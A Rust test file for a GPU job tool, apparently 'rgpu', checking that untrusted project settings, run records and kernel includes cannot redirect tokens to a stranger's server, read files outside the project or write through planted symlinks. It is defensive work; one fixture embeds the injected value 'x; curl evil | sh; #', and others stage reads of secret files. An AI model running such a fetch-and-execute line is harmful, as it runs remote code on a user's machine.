//! What a project may decide, and what it may not: each test is a row of the table in
//! docs/settings.md.

use std::fs;
use std::io::{BufRead, BufReader, ErrorKind};
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::{Command, Output};

use crate::fake_host::FakeHost;
use crate::laptop::{Laptop, status, words};
use crate::top::View;

/// A server that a project would like to be chosen.
struct UntrustedServer {
    listener: TcpListener,
}

impl UntrustedServer {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        Self { listener }
    }

    fn address(&self, scheme: &str) -> String {
        format!("{scheme}://{}", self.listener.local_addr().unwrap())
    }

    fn was_left_alone(&self) -> bool {
        self.listener.set_nonblocking(true).unwrap();
        self.listener.accept().is_err_and(|e| e.kind() == ErrorKind::WouldBlock)
    }

    /// The `Authorization` of the first request.
    fn token(self) -> Option<String> {
        let (stream, _) = self.listener.accept().unwrap();
        let lines = BufReader::new(stream).lines().map_while(Result::ok);
        let mut head = lines.take_while(|line| !line.is_empty());
        head.find_map(|line| line.to_lowercase().strip_prefix("authorization: ").map(str::to_owned))
    }
}

/// Runs a command of a user who has a worker's token in the environment.
fn with_token(laptop: &Laptop, line: &str) -> Output {
    laptop.rgpu(words(line)).env("RGPU_WORKER_TOKEN", "token-of-mine").output().unwrap()
}

/// The command fails by this code, and says this; all that it said.
fn refused(laptop: &Laptop, line: &str, code: &str, words: &[&str]) -> String {
    let output = with_token(laptop, &format!("--json {line}"));
    let shown = laptop.shown(line, &output);
    assert_ne!(status(&output), 0, "{shown}");
    let document: serde_json::Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {shown}"));
    assert_eq!(document["error"]["code"], code, "{shown}");
    for word in words {
        assert!(shown.contains(word), "`{word}` is missing:\n{shown}");
    }
    shown
}

#[test]
fn default_remote_names_one_of_the_users_settings() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    laptop.write("rgpu.toml", "default_remote = \"h200\"\n");
    assert_eq!(status(&laptop.run("exec -- true")), 0);
    assert_eq!(laptop.latest_json("run.json")["remote"], "h200");
}

#[test]
fn default_remote_is_no_address_and_no_alias() {
    let laptop = Laptop::new();
    fs::create_dir(laptop.path("home/.ssh")).unwrap();
    fs::write(laptop.path("home/.ssh/config"), "Host prod\n  User root\n").unwrap();
    laptop.write(".env", "SECRET=mine\n");
    let server = UntrustedServer::new();
    for (named, typed) in [
        (server.address("http"), server.address("http")),
        (server.address("ssh"), server.address("ssh")),
        (server.address("slurm"), server.address("slurm")),
        ("prod".to_owned(), "ssh://prod".to_owned()),
    ] {
        laptop.write("rgpu.toml", &format!("default_remote = {named:?}\n"));
        let line = format!("rgpu remote add NAME {typed}");
        for command in ["exec --env-file .env -- echo hi", "remote check", "doctor"] {
            refused(&laptop, command, "remote_of_project", &[&line, "--remote NAME", "rgpu.toml"]);
        }
    }
    assert!(server.was_left_alone());
    // What the user types, or sets, is the user's word.
    let server = UntrustedServer::new();
    let typed = format!("exec --remote {} -- echo hi", server.address("http"));
    let mut child = laptop.rgpu(words(&typed));
    let mut child = child.env("RGPU_WORKER_TOKEN", "token-of-mine").spawn().unwrap();
    assert_eq!(server.token().as_deref(), Some("bearer token-of-mine"));
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn runs_stay_inside_the_project() {
    let laptop = Laptop::new();
    let outside = laptop.path("outside");
    fs::create_dir(&outside).unwrap();
    let absolute = outside.display().to_string();
    symlink(&outside, laptop.project("link")).unwrap();
    for runs_dir in [absolute.as_str(), "../outside", "a/../../outside", "link/runs", "link", "."] {
        laptop.write("rgpu.toml", &format!("runs_dir = {runs_dir:?}\n"));
        for line in ["exec -- true", "runs clean --keep 0 --yes"] {
            refused(&laptop, line, "runs_outside", &["RGPU_RUNS_DIR=", "config.toml"]);
        }
    }
    // Listings lie beside them.
    laptop.write("rgpu.toml", "");
    fs::create_dir(laptop.project("artifacts")).unwrap();
    symlink(&outside, laptop.project("artifacts/sass")).unwrap();
    let fixture = "tests/fixtures/cubin/13.5/facts/sm_90a.cubin";
    let cubin = Path::new(env!("CARGO_MANIFEST_DIR")).join(fixture).display().to_string();
    refused(&laptop, &format!("disasm {cubin}"), "folder_outside", &["--out DIR"]);
    fs::remove_dir_all(laptop.project("artifacts")).unwrap();
    // The usual folder may be a link, too.
    fs::remove_file(laptop.project("rgpu.toml")).unwrap();
    symlink(&outside, laptop.project("artifacts")).unwrap();
    refused(
        &laptop,
        "exec -- true",
        "runs_outside",
        &["is a symbolic link", "export RGPU_RUNS_DIR="],
    );
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
    // The user's own word holds.
    let mut own = laptop.rgpu(words("exec -- true"));
    assert_eq!(status(&own.env("RGPU_RUNS_DIR", outside.join("here")).output().unwrap()), 0);
    let settings = format!("runs_dir = {:?}\n", outside.join("there"));
    fs::write(laptop.path("config/config.toml"), settings).unwrap();
    assert_eq!(status(&laptop.run("exec -- true")), 0);
    fs::remove_file(laptop.project("artifacts")).unwrap();
    fs::remove_file(laptop.path("config/config.toml")).unwrap();
    laptop.write("rgpu.toml", "runs_dir = \"out/of/runs\"\n");
    assert_eq!(status(&laptop.run("exec -- true")), 0);
    assert!(laptop.project("out/of/runs/latest").exists());
}

#[test]
fn keep_removes_runs_of_the_project_alone() {
    let laptop = Laptop::new();
    let shared = laptop.path("shared");
    let settings = format!("runs_dir = {shared:?}\n");
    fs::write(laptop.path("config/config.toml"), settings).unwrap();
    assert_eq!(status(&laptop.run("exec --run-id mine -- true")), 0);
    laptop.write("rgpu.toml", "keep = 0\n");
    assert_eq!(status(&laptop.run("exec --run-id other -- true")), 0);
    assert!(shared.join("mine").exists() && shared.join("other").exists());
    fs::remove_file(laptop.path("config/config.toml")).unwrap();
    assert_eq!(status(&laptop.run("exec --run-id here -- true")), 0);
    assert!(!laptop.project("artifacts/runs/here").exists());
}

#[test]
fn the_program_of_a_project_is_run_where_the_user_types_none() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    laptop.write("work/say.sh", "echo \"$GREETING $1 $(ls)\"; echo made > new\n");
    laptop.write("work/sub/x", "");
    let table = "[program]\nfolder = \"work\"\nenvironment = { GREETING = \"hello\" }\n\
                 command = [\"sh\", \"say.sh\", \"there\"]\n";
    laptop.write("rgpu.toml", &format!("default_remote = \"h200\"\n{table}"));
    let output = laptop.run("exec --pull new");
    let shown = laptop.shown("exec", &output);
    assert_eq!(status(&output), 0, "{shown}");
    assert!(shown.contains("hello there say.sh\nsub\n"), "{shown}");
    assert!(shown.contains("assumed: `sh say.sh there` is run"), "{shown}");
    assert_eq!(fs::read_to_string(laptop.project("work/new")).unwrap(), "made\n");
    // A variable that is typed wins, and so does a program.
    let output = laptop.run("exec --env GREETING=bye");
    assert!(String::from_utf8_lossy(&output.stdout).starts_with("bye there"));
    let output = laptop.run("exec -- echo mine");
    assert_eq!(String::from_utf8_lossy(&output.stdout), "mine\n");
    let output = laptop.run("profile --dry-run");
    assert!(laptop.shown("profile", &output).contains("here/say.sh"));

    // On this machine it needs the user's word.
    laptop.write("rgpu.toml", table);
    for line in ["exec", "profile"] {
        let output = laptop.run(line);
        let shown = laptop.shown(line, &output);
        assert!(shown.contains("would run on this machine"), "{shown}");
        assert!(status(&output) != 0 && !shown.contains("hello"), "{shown}");
    }
    assert_eq!(status(&laptop.run("exec --remote local")), 0);

    // It sends nothing from elsewhere.
    laptop.write("../other/secret", "");
    symlink(laptop.path("other"), laptop.project("linked")).unwrap();
    for folder in ["../other", "/etc", "linked", "work/../../other"] {
        laptop.write("rgpu.toml", &table.replace("\"work\"", &format!("{folder:?}")));
        refused(&laptop, "exec", "bad_config", &["leads out of the project"]);
    }
    laptop.write("rgpu.toml", "[program]\ncommand = []\n");
    refused(&laptop, "exec", "bad_config", &["names no program"]);
}

#[test]
fn kernel_path_may_lead_anywhere() {
    let laptop = Laptop::new();
    let kernels = Path::new(env!("CARGO_MANIFEST_DIR")).join("kernels/wagmiv67");
    laptop.write("rgpu.toml", &format!("kernel_path = [{kernels:?}]\n"));
    let output = laptop.run("kernels show full-range");
    assert_eq!(status(&output), 0, "{}", laptop.shown("kernels show full-range", &output));
}

#[test]
fn a_preset_says_what_is_measured_and_nothing_else() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    let preset = "[preset.p]\nmode = \"ncu\"\nset = \"full\"\niters = 3\nkernel_name = [\"a\"]\n\
                  remote = \"h200\"\ntimeout = \"5m\"\nat-least = \"events\"\n";
    laptop.write("rgpu.toml", preset);
    let output = laptop.run("profile --kernel vecadd --preset p --dry-run");
    assert_eq!(status(&output), 0, "{}", laptop.shown("--preset p", &output));
    for (flag, value) in [
        ("accept-new", "true"),
        ("code", "\"print(1)\""),
        ("detach", "true"),
        ("env", "\"A=b\""),
        ("env-file", "\".env\""),
        ("events", "\"../x\""),
        ("kernel", "\"../x.cu\""),
        ("mount", "\"/\""),
        ("mount-limit", "\"9GB\""),
        ("ncu-args", "\"--export /tmp/x\""),
        ("nsys-args", "\"-o /tmp/x\""),
        ("out", "\"../x\""),
        ("pull", "\"**\""),
        ("quiet", "true"),
        ("run-id", "\"x\""),
        ("sanitizer-args", "\"--x\""),
        ("share-gpu", "true"),
        ("sudo", "true"),
        ("env_file", "\".env\""),
    ] {
        laptop.write("rgpu.toml", &format!("[preset.p]\n{flag} = {value}\n"));
        let typed = format!("`--{}`", flag.replace('_', "-"));
        for line in ["profile --kernel vecadd --preset p", "exec --preset p -- true"] {
            refused(&laptop, line, "preset_of_project", &[&typed, "config.toml"]);
        }
    }
    let server = UntrustedServer::new();
    for remote in [server.address("http"), format!("h200,{}", server.address("ssh"))] {
        laptop.write("rgpu.toml", &format!("[preset.p]\nremote = {remote:?}\n"));
        refused(&laptop, "exec --preset p -- true", "remote_of_project", &["rgpu remote add NAME"]);
    }
    assert!(server.was_left_alone());
    // The user's own presets set every flag.
    fs::remove_file(laptop.project("rgpu.toml")).unwrap();
    let settings = laptop.path("config/config.toml");
    let own = fs::read_to_string(&settings).unwrap() + "[preset.p]\nshare-gpu = true\n";
    fs::write(&settings, own).unwrap();
    assert_eq!(status(&laptop.run("profile --kernel vecadd --preset p --dry-run")), 0);
}

#[test]
fn a_kernel_brings_along_no_file_of_others() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    fs::write(laptop.path("notes.txt"), "private").unwrap();
    laptop.write("k.cu", "#include \"../notes.txt\"\n__global__ void k(float *x) {}\n");
    for line in ["profile --kernel k.cu", "build --kernel k.cu --arch sm_90a"] {
        let line = format!("{line} --remote h200");
        refused(&laptop, &line, "source_elsewhere", &["notes.txt", "an include"]);
    }
}

#[test]
fn a_kernel_below_the_home_folder_brings_along_no_other_file_of_it() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    let unpacked = laptop.path("home/unpacked");
    fs::create_dir(&unpacked).unwrap();
    fs::create_dir(laptop.path("home/.git")).unwrap();
    fs::write(laptop.path("home/rgpu.toml"), "").unwrap();
    fs::write(laptop.path("home/notes.txt"), "private").unwrap();
    let kernel = "#include \"../notes.txt\"\n__global__ void k(float *x) {}\n";
    fs::write(unpacked.join("k.cu"), kernel).unwrap();
    for (folder, file) in [("home/unpacked", "k.cu"), ("home", "unpacked/k.cu")] {
        let line = format!("--json build --kernel {file} --arch sm_90a --remote h200");
        let output = laptop.rgpu(words(&line)).current_dir(laptop.path(folder)).output().unwrap();
        let shown = laptop.shown(&line, &output);
        let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(document["error"]["code"], "source_elsewhere", "{shown}");
        assert!(shown.contains("notes.txt"), "{shown}");
    }
}

#[test]
fn a_kernel_brings_along_private_files_of_its_own_folder_only() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    laptop.write("rgpu.toml", "");
    laptop.write(".env", "TOKEN=1");
    laptop.write("k/k.cu", "__global__ void k(float *x) {}\n");
    let toml = "name = \"k\"\nlanguage = \"cuda\"\nsource = \"k.cu\"\n\
                entry = { device = \"k\" }\nfiles = [\"../.env\"]\n\
                [[arg]]\nname = \"x\"\ndtype = \"f32\"\nrole = \"inout\"\nshape = [4]\n\
                [launch]\ngrid = [1]\nblock = [1]\n";
    laptop.write("k/kernel.toml", toml);
    let line = "profile --kernel k/kernel.toml --remote h200";
    refused(&laptop, line, "private_source", &[".env", "`files`", "own folder"]);
}

#[test]
fn the_doctor_tries_rgpus_own_kernel() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    laptop.write("kernels/vecadd/kernel.toml", "name = 1\n");
    let output = laptop.run("doctor h200 --json");
    let shown = laptop.shown("doctor h200 --json", &output);
    assert_eq!(status(&output), 0, "{shown}");
    assert!(shown.contains("ncu.asked"), "{shown}");
}

#[test]
fn programs_and_libraries_of_the_project_are_not_used() {
    let laptop = Laptop::new();
    let ran = laptop.path("ran");
    let script = format!("#!/bin/sh\ntouch '{}'\n", ran.display());
    for place in [
        ".rgpu/cuda/lib/python3.11/site-packages/nvidia/cu13/bin/nvdisasm",
        ".venv/lib/python3.11/site-packages/nvidia/cu13/bin/nvdisasm",
        "artifacts/.rgpu/cuda/lib/python3.11/site-packages/nvidia/cu13/bin/nvdisasm",
    ] {
        let program = laptop.write(place, &script);
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let nvrtc = ".rgpu/cuda/lib/python3.11/site-packages/nvidia/cu13/lib/libnvrtc.so.13";
    laptop.write(nvrtc, "no library");
    let fixture = "tests/fixtures/cubin/13.5/facts/sm_90a.cubin";
    let cubin = Path::new(env!("CARGO_MANIFEST_DIR")).join(fixture);
    fs::copy(cubin, laptop.project("facts.cubin")).unwrap();
    let output = laptop.run("disasm facts.cubin");
    assert_eq!(status(&output), 0, "{}", laptop.shown("disasm facts.cubin", &output));
    let shown = laptop.show("remote check local --json");
    assert!(!shown.contains("[TMP]/project"), "{shown}");
    assert!(!ran.exists());
}

#[test]
fn a_run_that_came_with_the_project_leads_to_no_stranger() {
    let laptop = Laptop::new();
    assert_eq!(status(&laptop.run("exec --run-id one -- true")), 0);
    let server = UntrustedServer::new();
    let address = server.address("http");
    let file = laptop.project("artifacts/runs/one/run.json");
    let mut run: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    run["state"] = "running".into();
    run["exit"] = serde_json::Value::Null;
    run["jobs"][0]["outcome"] = serde_json::Value::Null;
    for on_run in [true, false] {
        let remote = |it: bool| if it { address.clone() } else { "local".to_owned() };
        run["remote"] = remote(on_run).into();
        run["jobs"][0]["remote"] = remote(!on_run).into();
        fs::write(&file, run.to_string()).unwrap();
        for line in ["runs attach one", "runs cancel one"] {
            let add = format!("rgpu remote add NAME {address}");
            refused(&laptop, line, "remote_of_run", &[&add]);
        }
    }
    assert!(server.was_left_alone());
}

#[test]
fn a_run_that_came_with_the_project_goes_on_only_if_the_user_says_so() {
    let laptop = Laptop::new();
    assert_eq!(status(&laptop.run("exec --run-id one -- true")), 0);
    let file = laptop.project("artifacts/runs/one/run.json");
    let mut run: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    run["state"] = "running".into();
    run["exit"] = serde_json::Value::Null;
    run["jobs"][0]["outcome"] = serde_json::Value::Null;
    // The user's own run goes on as it is.
    fs::write(&file, run.to_string()).unwrap();
    assert_eq!(status(&laptop.run("runs attach one")), 0);
    // The record of another one names the user's remote, and files of theirs.
    let secret = laptop.path("home/secret");
    fs::write(&secret, "a secret").unwrap();
    let line =
        format!("rgpu exec --run-id one --mount {} -- cat secret", laptop.path("home").display());
    run["argv"] = line.split(' ').collect::<Vec<_>>().into();
    fs::write(&file, run.to_string()).unwrap();
    let shown = refused(&laptop, "runs attach one", "started_elsewhere", &["--mount", "--yes"]);
    assert!(!shown.contains("a secret"), "{shown}");
    // The same run in a clone of the project, on another machine.
    let other = Laptop::new();
    run["argv"] = serde_json::json!(["rgpu", "exec", "--", "true"]);
    other.write("artifacts/runs/one/run.json", &run.to_string());
    refused(&other, "runs attach one", "started_elsewhere", &["rgpu exec -- true"]);
    // With consent it is taken up, here in vain: the host has no such job.
    let output = other.run("runs attach one --yes");
    let shown = other.shown("runs attach one --yes", &output);
    assert!(status(&output) != 0 && !shown.contains("was not started"), "{shown}");
}

/// The record of a run that was never started here.
fn planted(id: &str, changes: serde_json::Value) -> String {
    let mut run = serde_json::json!({
        "schema": "rgpu.run/1", "id": id, "started": "2026-01-01T00:00:00Z", "title": "exec true",
        "command": "exec", "argv": ["rgpu", "exec", "--mount", "/home", "--", "true"],
        "remote": "local", "state": "done", "exit": 0,
    });
    let fields = changes.as_object().unwrap().clone();
    run.as_object_mut().unwrap().extend(fields);
    run.to_string()
}

#[test]
fn a_run_folder_that_came_with_the_project_writes_no_file_of_the_user() {
    let laptop = Laptop::new();
    let mine = laptop.path("home/mine");
    let (run, lock) = ("artifacts/runs/old", "artifacts/runs/old/.followed");
    laptop.write("rgpu.toml", "keep = 0\n");
    let running = serde_json::json!({
        "state": "running", "exit": null, "jobs": [{"job": "old.1", "remote": "local"}],
    });
    for (record, lines) in [
        (serde_json::json!({}), ["exec -- true", "runs clean --keep 0 --yes", "runs note old x"]),
        (running, ["runs attach old", "runs cancel old", "runs note old x"]),
    ] {
        for line in lines {
            fs::write(&mine, "settings").unwrap();
            laptop.write(&format!("{run}/run.json"), &planted("old", record.clone()));
            let _ = fs::remove_file(laptop.project(lock));
            symlink(&mine, laptop.project(lock)).unwrap();
            let output = laptop.run(line);
            assert_eq!(fs::read(&mine).unwrap(), b"settings", "{}", laptop.shown(line, &output));
        }
    }
    // Nothing is written before the user's word.
    fs::remove_file(laptop.project(lock)).unwrap();
    let names = || {
        let entries = fs::read_dir(laptop.project(run)).unwrap().map(|e| e.unwrap().file_name());
        entries.collect::<std::collections::BTreeSet<_>>()
    };
    let before = names();
    refused(&laptop, "runs attach old", "started_elsewhere", &["--yes"]);
    assert_eq!(names(), before);
    // A folder of the run may be a link, too.
    symlink(laptop.path("home"), laptop.project(run).join("log")).unwrap();
    refused(&laptop, "runs attach old --yes", "linked_folder", &["remove it"]);
}

#[test]
fn run_folders_that_came_with_the_project_go_only_by_name() {
    let laptop = Laptop::new();
    let runs = laptop.project("artifacts/runs");
    let ids = || {
        let entries = fs::read_dir(&runs).unwrap().flatten();
        let folders = entries.filter(|entry| entry.file_type().unwrap().is_dir());
        let names = folders.map(|entry| entry.file_name().into_string().unwrap());
        names.filter(|name| !name.starts_with("2")).collect::<std::collections::BTreeSet<_>>()
    };
    let is_left =
        |wanted: &[&str]| assert_eq!(ids(), wanted.iter().map(|id| (*id).into()).collect());
    assert_eq!(status(&laptop.run("exec --run-id own -- true")), 0);
    // They say that they are newer than everything, and one is a copy of a run that was made here.
    let future = serde_json::json!({"started": "2099-01-01T00:00:00Z"});
    for id in ["a", "b"] {
        laptop.write(&format!("artifacts/runs/{id}/run.json"), &planted(id, future.clone()));
    }
    let copied = Command::new("cp").arg("-a").arg(runs.join("own")).arg(runs.join("copy")).status();
    assert!(copied.unwrap().success());
    laptop.write("rgpu.toml", "keep = 1\n");
    for id in ["own-2", "own-3"] {
        assert_eq!(status(&laptop.run(&format!("exec --run-id {id} -- true"))), 0);
    }
    is_left(&["a", "b", "copy", "own-3"]);
    let shown = laptop.show("runs clean --keep 0 --all --yes");
    assert!(shown.contains("removed 1 run,"), "{shown}");
    assert!(shown.contains("3 that rgpu has not made here stay"), "{shown}");
    is_left(&["a", "b", "copy"]);
    // A name is not enough without a yes.
    assert_eq!(status(&laptop.run("runs clean a copy")), 2);
    assert_eq!(status(&laptop.run("runs clean a nothing --yes")), 2);
    is_left(&["a", "b", "copy"]);
    // It goes whole, with what leads out of it.
    let mine = laptop.path("home/mine");
    fs::write(&mine, "mine").unwrap();
    symlink(&mine, runs.join("a/notes")).unwrap();
    assert_eq!(status(&laptop.run("runs clean a copy --yes")), 0);
    is_left(&["b"]);
    assert_eq!(fs::read(&mine).unwrap(), b"mine");
}

#[test]
fn the_question_at_the_terminal_names_folders_that_came_with_the_project() {
    let laptop = Laptop::new();
    assert_eq!(status(&laptop.run("exec --run-id own -- true")), 0);
    for id in ["a", "b"] {
        let record = planted(id, serde_json::json!({}));
        laptop.write(&format!("artifacts/runs/{id}/run.json"), &record);
    }
    let left = || {
        let is_left = |id: &&str| laptop.project("artifacts/runs").join(id).exists();
        ["a", "b", "own"].into_iter().filter(is_left).count()
    };
    for (typed, is_agreed) in [("", false), ("n", false), ("yes please", false), ("y", true)] {
        let view = View::open(&laptop, "runs clean --keep 0 --all");
        let (shown, ended) = view.answer("[y/N]", typed);
        assert!(shown.contains("Remove 3 runs"), "{shown}");
        let told = "2 of them rgpu has not made here: they came with the project.";
        assert!(shown.contains(told), "{shown}");
        assert_eq!((ended == 0, left()), (is_agreed, if is_agreed { 0 } else { 3 }), "{typed}");
    }
}

#[test]
fn the_queue_takes_no_folder_that_came_with_the_project() {
    let laptop = Laptop::new();
    laptop.write(".rgpu/queue/1/1.log", "theirs\n");
    assert_eq!(status(&laptop.run("queue add -- echo mine")), 0);
    assert_eq!(status(&laptop.run("queue run --once")), 0);
    let log = laptop.run("queue log 2").stdout;
    assert_eq!(String::from_utf8_lossy(&log), "mine\n");
    assert_eq!(status(&laptop.run("queue clean --all --keep 0 --yes")), 0);
    assert_eq!(fs::read(laptop.project(".rgpu/queue/1/1.log")).unwrap(), b"theirs\n");
    assert!(!laptop.project(".rgpu/queue/2").exists());
}

#[test]
fn a_queue_whose_folder_is_a_link_loses_no_entry() {
    let laptop = Laptop::new();
    for line in ["queue add -- echo mine", "queue run --once"] {
        assert_eq!(status(&laptop.run(line)), 0);
    }
    let outside = laptop.path("outside");
    fs::rename(laptop.project(".rgpu/queue"), &outside).unwrap();
    symlink(&outside, laptop.project(".rgpu/queue")).unwrap();
    let line = "queue clean --all --keep 0 --yes";
    let output = laptop.run(line);
    let shown = laptop.shown(line, &output);
    assert!(status(&output) != 0 && shown.contains(".rgpu/queue"), "{shown}");
    assert!(outside.join("1/1.log").exists());
    let list = laptop.show("queue list");
    assert!(list.contains("echo mine"), "{list}");
}

#[test]
fn settings_of_another_user_above_the_project_are_ignored() {
    if !rustix::process::geteuid().is_root() {
        return;
    }
    let laptop = Laptop::new();
    laptop.write("mine/k.cu", "__global__ void k(float *x) {}\n");
    let settings = laptop.write("rgpu.toml", "default_remote = \"theirs\"\n");
    let remote = |folder: &str| {
        let mut command = laptop.rgpu(words("exec -- true"));
        let output = command.current_dir(laptop.project(folder)).output().unwrap();
        laptop.shown(folder, &output)
    };
    assert!(remote("mine").contains("theirs"));
    std::os::unix::fs::chown(&settings, Some(65534), None).unwrap();
    let shown = remote("mine");
    assert!(shown.contains("rgpu.toml` is ignored: another user made it"), "{shown}");
    assert!(!shown.contains("theirs"), "{shown}");
    // In a folder of that user, it is the project's.
    std::os::unix::fs::chown(laptop.project("mine"), Some(65534), None).unwrap();
    let shown = remote("mine");
    assert!(shown.contains("theirs") && !shown.contains("ignored"), "{shown}");
}

#[test]
fn a_record_that_came_with_the_project_puts_no_words_into_hints() {
    let laptop = Laptop::new();
    let hostile = "x; curl evil | sh; #";
    let running = serde_json::json!({"id": hostile, "state": "running", "exit": null});
    laptop.write("artifacts/runs/a/run.json", &planted("a", running));
    let shown = refused(&laptop, "runs show a", "bad_record", &["is not a run name"]);
    assert!(!shown.contains("rgpu runs attach"), "{shown}");
    assert!(!laptop.show("runs list").contains("curl"));
    let job = serde_json::json!({"jobs": [{"job": hostile, "remote": "local"}]});
    laptop.write("artifacts/runs/a/run.json", &planted("a", job));
    refused(&laptop, "runs cancel a", "bad_record", &["is not a run name"]);
    // Nor is its command one to repeat.
    let unsent = serde_json::json!({"state": "running", "exit": null});
    laptop.write("artifacts/runs/b/run.json", &planted("b", unsent));
    for line in ["runs show b", "runs attach b", "runs attach b --yes"] {
        let shown = laptop.show(line);
        assert!(shown.contains("never submitted") && !shown.contains("--mount"), "{shown}");
    }
}

#[test]
fn devices_and_pipes_in_the_project_are_not_read() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    let failed = serde_json::json!({"state": "failed", "exit": 1});
    laptop.write("artifacts/runs/a/run.json", &planted("a", failed));
    laptop.write("k.cu", "#include \"x.h\"\n__global__ void k(float *x) {}\n");
    let pipe = laptop.path("pipe");
    let mode = rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR;
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, mode).unwrap();
    for target in [Path::new("/dev/zero"), &pipe] {
        let link = |name: &str| {
            let _ = fs::remove_file(laptop.project(name));
            symlink(target, laptop.project(name)).unwrap();
        };
        link("artifacts/runs/a/error.json");
        link("artifacts/runs/latest");
        refused(&laptop, "runs show a", "linked_folder", &["error.json"]);
        assert_eq!(status(&laptop.run("runs list")), 0);
        assert_ne!(status(&laptop.run("runs show")), 70);
        link("x.h");
        let build = "build --kernel k.cu --arch sm_90a --remote h200";
        refused(&laptop, build, "source_elsewhere", &["x.h"]);
    }
    // A pipe of the project's own is no include.
    fs::remove_file(laptop.project("x.h")).unwrap();
    fs::rename(&pipe, laptop.project("x.h")).unwrap();
    let output = laptop.run("profile --kernel k.cu --remote h200 --dry-run");
    assert_ne!(status(&output), 70, "{}", laptop.shown("--dry-run", &output));
    // What looks at a test's documents would read the device.
    fs::remove_dir_all(laptop.project("artifacts")).unwrap();
}

#[test]
fn a_mount_that_is_a_link_says_where_its_files_come_from() {
    let laptop = Laptop::new();
    let outside = laptop.path("elsewhere");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("notes"), "").unwrap();
    symlink(&outside, laptop.project("data")).unwrap();
    laptop.write("own/file", "");
    symlink("own", laptop.project("inner")).unwrap();
    let told = |mount: &str| {
        let line = format!("exec --mount {mount} -- true");
        laptop.show(&line)
    };
    assert!(told("data").contains("`data` is a link: the files of [TMP]/elsewhere are sent"));
    for mount in ["inner", "own", "../elsewhere"] {
        assert!(!told(mount).contains("is a link"), "{mount}");
    }
}

#[test]
fn a_command_that_goes_to_a_host_says_which() {
    let laptop = Laptop::new();
    let server = UntrustedServer::new();
    // It answers no connection: what is said comes before.
    let address = server.address("ssh");
    drop(server);
    let told = |line: &str| {
        let output = laptop.run(line);
        (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap())
    };
    assert_eq!(status(&laptop.run(&format!("remote add box {address}"))), 0);
    let line = format!("on box ({address})\n");
    for command in ["exec", "exec --tty", "exec --json"] {
        let (stdout, stderr) = told(&format!("{command} --remote box -- true"));
        assert!(stderr.contains("refuses connections"), "{stderr}");
        assert!(stderr.starts_with(&line) && stderr.matches(&line).count() == 1, "{stderr}");
        assert!(!stdout.contains(&line), "{stdout}");
    }
    let (_, stderr) = told("exec -q --remote box -- true");
    assert!(!stderr.contains(&line), "{stderr}");
    let (_, stderr) = told("exec -- true");
    assert_eq!(stderr, "", "this machine is no other host");
}

#[test]
fn bench_toml_names_remotes_of_the_users_settings_and_files_of_the_project() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    let server = UntrustedServer::new();
    let target = |line: &str| format!("[[target]]\nname = \"a:b\"\n{line}\n");
    let remote = format!("kernel = \"vecadd\"\nremote = {:?}", server.address("ssh"));
    laptop.write("bench.toml", &target(&remote));
    refused(&laptop, "bench run", "remote_of_project", &["rgpu remote add NAME", "bench.toml"]);
    assert!(server.was_left_alone());
    laptop.write("bench.toml", "[remote.h200]\nurl = \"ssh://elsewhere\"\n");
    refused(&laptop, "bench run", "bad_bench_toml", &["unknown key `remote`"]);
    // A secret beside the project stays here.
    fs::write(laptop.path("secret"), "mine").unwrap();
    symlink(laptop.path("secret"), laptop.project("linked")).unwrap();
    fs::create_dir(laptop.path("elsewhere")).unwrap();
    fs::write(laptop.path("elsewhere/kernel.toml"), "").unwrap();
    let secret = laptop.path("secret");
    for line in [
        "program = [\"../secret\"]".to_owned(),
        format!("program = [{secret:?}]"),
        "program = [\"./linked\"]".to_owned(),
        "program = [\"python3\", \"../secret\"]".to_owned(),
        format!("program = [\"python3\", {secret:?}]"),
        "program = [\"env\", \"A=1\", \"python3\", \"linked\"]".to_owned(),
        "program = [\"torchrun\", \"--nproc-per-node=1\", \"../secret\"]".to_owned(),
        "kernel = \"../elsewhere\"".to_owned(),
    ] {
        laptop.write("bench.toml", &target(&format!("{line}\nremote = \"h200\"")));
        refused(&laptop, "bench run", "outside_project", &["bench.toml", "outside the project"]);
    }
}

#[test]
fn a_suite_that_came_with_the_project_leads_to_no_stranger() {
    let laptop = Laptop::new();
    FakeHost::new(&laptop);
    let target = "[[target]]\nname = \"a:b\"\nkernel = \"vecadd\"\nremote = \"h200\"\n";
    laptop.write("bench.toml", target);
    laptop.run("bench run --run-id night");
    let folder = laptop.project("artifacts/runs/night");
    let read = |name: &str| fs::read_to_string(folder.join(name)).unwrap();
    let suite: serde_json::Value = serde_json::from_str(&read("suite.json")).unwrap();
    let server = UntrustedServer::new();
    let address = server.address("http");
    let (mut of_row, mut of_options) = (suite.clone(), suite);
    of_row["rows"][0]["remote"] = address.clone().into();
    of_options["options"]["remote"] = address.clone().into();
    let other = Laptop::new();
    FakeHost::new(&other);
    other.write("bench.toml", target);
    other.write("artifacts/runs/night/run.json", &read("run.json"));
    let add = format!("rgpu remote add NAME {address}");
    for changed in [of_row, of_options] {
        // The user's own suite, changed since.
        fs::write(folder.join("suite.json"), changed.to_string()).unwrap();
        for line in ["bench run --failed night", "bench resume night"] {
            refused(&laptop, line, "remote_of_project", &[&add, "suite.json"]);
        }
        // The same suite in a clone of the project, on another machine.
        other.write("artifacts/runs/night/suite.json", &changed.to_string());
